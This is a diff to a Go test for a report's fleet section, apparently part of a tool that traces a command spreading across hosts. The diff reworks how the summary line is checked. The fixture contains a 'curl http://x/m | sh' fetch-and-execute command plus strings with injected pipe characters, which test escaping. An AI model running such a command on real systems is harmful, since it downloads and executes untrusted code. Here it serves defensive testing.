@@ -24,8 +24,17 @@ func TestFleetSection(t *testing.T) {
 	r := sample()
 	r.AddFleet([]fleet.Spread{{Kind: fleet.CommandLine, Value: "curl http://x/m | sh " + hostile + " a|b", Why: "why " + hostile,
 		Hosts: []fleet.Sighting{sight("agent04", 0), sight("agent00|x", 7*time.Minute), sight(hostile, 14*time.Minute)}}})
-	if s := r.Summary[len(r.Summary)-1]; !strings.Contains(s, "on 3 hosts") || !strings.Contains(s, "agent04 → agent00|x → ") {
-		t.Errorf("summary: %q", s)
+	found := false
+	for _, l := range summaryLines(r) {
+		if l.Label == "Across hosts" {
+			found = true
+			if !strings.Contains(l.Text, "on 3 hosts") || !strings.Contains(l.Text, "agent04 → agent00|x → ") || len(l.Refs) != 1 {
+				t.Errorf("summary: %+v", l)
+			}
+		}
+	}
+	if !found {
+		t.Error("no line across hosts in the summary")
 	}
 	var h bytes.Buffer
 	if err := HTML(&h, r); err != nil {
